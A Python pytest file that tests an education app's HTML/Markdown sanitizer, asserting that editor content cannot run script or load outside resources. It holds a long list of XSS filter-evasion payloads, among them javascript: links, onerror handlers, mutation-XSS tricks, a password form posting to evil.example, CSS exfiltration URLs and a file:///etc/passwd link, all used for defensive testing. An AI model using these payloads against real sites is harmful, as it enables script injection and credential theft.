"""What an editor writes cannot run, load or pretend, on a page or in a mini-program."""

import html
import json
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.education.rules.rendering import TAGS, cleaned, html_of, nodes_of, text_of

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>XSS</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url('https://evil.example/?c')}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>fake</p>",
    "<p class='login' id='password'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/files/of-somebody'>x</a>",
    "<a href='https://good.example/' onclick='alert(1)' target=_blank>x</a>",
    "<form action='https://evil.example/'><input name=password><button>登录</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror='alert(1)'></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xss style='behavior: url(xss.htc);'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "<a\x00 href='javascript:alert(1)'>x</a>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/files/of-somebody)",
    "[x](http://plain.example)",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/'onclick='alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/tracker.png)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
]
"""After the OWASP cheat sheets on XSS filter evasion and on DOM clobbering, and what Markdown adds to them."""


class Strict(HTMLParser):
    """Holds of what a browser would be given that there is nothing in it but what is meant to be."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}, (tag, name)
            if name == "href":
                assert value is not None
                assert value.startswith(("https://", "tel:")), value
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def harmless(fragment: str) -> str:
    """Its words."""
    strict = Strict()
    strict.feed(fragment)
    strict.close()
    assert strict.open == []
    return "".join(strict.words)


def trusted(nodes: Any) -> str:
    """As <rich-text> takes them: its words."""
    said = []
    for node in nodes:
        if node.keys() == {"type", "text"}:
            assert node["type"] == "text"
            said.append(html.unescape(node["text"]))
            continue
        assert node.keys() <= {"name", "attrs", "children"}
        assert node["name"] in TAGS
        assert node.get("attrs", {}).keys() <= {"start"}
        said.append(trusted(node.get("children", [])))
    return "".join(said)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_gets_through(hostile: str) -> None:
    for fragment in (html_of(hostile), html_of(f"正文\n\n{hostile}\n\n正文"), cleaned(hostile)):
        harmless(fragment)
    trusted(json.loads(nodes_of(hostile)))


HARMFUL = st.text(alphabet=st.sampled_from("<>\"'`/=!-[]()#&;:*_~|\\\n\t \x00ajvscriptonheflmg字")) | st.lists(
    st.sampled_from(HOSTILE)
).map("".join)


@settings(max_examples=300, deadline=None)
@given(HARMFUL)
def test_nothing_that_anybody_could_make_up_gets_through(said: str) -> None:
    harmless(cleaned(said))
    words = harmless(html_of(said))
    shown = trusted(json.loads(nodes_of(said)))
    # A mini-program shows the same words, and addresses besides.
    assert set("".join(words.split())) <= set("".join(shown.split()))
    assert "".join(words.split()) == "".join(text_of(said).split())


def test_what_is_meant_is_shown() -> None:
    said = "# 标题\n\n**注意：**请在一年内[申请](https://example.gov.cn/a?b=1&c=2)，~~两年~~。\n\n3. 甲\n4. 乙\n\n"
    said += "> 引用\n\n| 途径 | 时限 |\n| - | - |\n| 仲裁 | 一年 |\n\n拨打[热线](tel:12348)，`a < b && c`\n\n---\n"
    shown = html_of(said)
    assert "<h1>标题</h1>" in shown
    assert "<strong>注意：</strong>请" in shown
    assert '<a href="https://example.gov.cn/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">申请</a>' in shown
    assert '<ol start="3">' in shown
    assert "<td>仲裁</td>" in shown
    nodes = json.loads(nodes_of(said))
    assert nodes[0] == {"name": "h1", "children": [{"type": "text", "text": "标题"}]}
    assert nodes[2]["attrs"] == {"start": "3"}
    assert [one["name"] for one in nodes] == ["h1", "p", "ol", "blockquote", "table", "p", "hr"]
    assert "申请（https://example.gov.cn/a?b=1&c=2）" in trusted(nodes)
    assert "热线（12348）" in trusted(nodes)
    assert "a < b && c" in trusted(nodes)
    assert "注意：请在一年内" in text_of(said)
